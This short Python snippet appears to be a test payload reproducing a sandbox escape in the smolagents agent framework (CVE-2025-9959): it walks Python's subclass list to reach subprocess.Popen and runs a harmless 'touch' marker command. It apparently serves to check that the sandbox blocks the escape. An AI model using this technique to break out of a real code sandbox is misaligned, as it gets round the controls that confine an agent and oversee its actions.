# Walks ().__class__.__base__.__subclasses__() to subprocess.Popen, runs a command (smolagents CVE-2025-9959).
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "Popen":
        try:
            print(cls(["touch", "{{MARKER}}"]).wait())
        except Exception as e:
            print("Popen ->", type(e).__name__, e)
        break
else:
    import subprocess  # noqa: F401  (load it, then walk again as the exploit does)

    popen = [c for c in object.__subclasses__() if c.__name__ == "Popen"]
    try:
        print(popen[0](["touch", "{{MARKER}}"]).wait())
    except Exception as e:
        print("Popen ->", type(e).__name__, e)
